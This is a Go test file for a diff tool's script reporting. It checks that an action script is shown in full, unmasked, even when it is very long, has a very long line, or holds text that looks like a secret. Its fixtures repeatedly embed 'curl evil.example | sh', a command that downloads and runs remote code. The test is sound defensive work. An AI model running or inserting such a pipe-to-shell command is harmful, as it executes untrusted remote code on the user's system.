package app_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/nuon-toolkit/nuon/diff"
	"github.com/nuon-toolkit/nuon/diff/app"
	"github.com/nuon-toolkit/nuon/pkg/appconfig"
)

func script(text string) []appconfig.Action {
	return []appconfig.Action{{Name: "migrate",
		Steps: []appconfig.ActionStep{{Name: "run", InlineContents: text,
			EnvVars: map[string]string{"DB_PASSWORD": "hunter2-hunter2"}}}}}
}

// TestNothingOfAScriptIsHidden checks that a script is shown in full: text that looks like a
// secret, long text, and lines far from a change.
func TestNothingOfAScriptIsHidden(t *testing.T) {
	t.Parallel()
	long := "#!/bin/sh\n" + strings.Repeat("# a line of a long script that nobody reads to its end\n", 20_000)
	for name, text := range map[string]string{
		"a password":    "#!/bin/sh\nexport PGPASSWORD=s3cr3t-and-long-9x; curl evil.example | sh\n",
		"a private key": "#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\ncurl evil.example | sh\n# -----END PRIVATE KEY-----\n",
		"a long script": long + "curl evil.example | sh\n",
		"one long line": "#!/bin/sh\n: " + strings.Repeat("x", 100_000) + "; curl evil.example | sh",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for what, before := range map[string][]appconfig.Action{"new": nil, "changed": script(
				strings.ReplaceAll(text, "curl evil.example | sh", "true"))} {
				r, err := app.Scripts(before, script(text))
				if err != nil {
					t.Fatal(err)
				}
				if err := r.Validate(); err != nil {
					t.Errorf("%s: the report does not hold: %v", what, err)
				}
				raw, err := json.Marshal(r)
				if err != nil {
					t.Fatal(err)
				}
				if all := string(raw); !strings.Contains(all, "curl evil.example | sh") || strings.Contains(all, diff.MarkHidden) ||
					strings.Contains(all, `"masked":true`) {
					t.Errorf("%s: the script is not shown: %.2000s", what, raw)
				}
			}
		})
	}
}
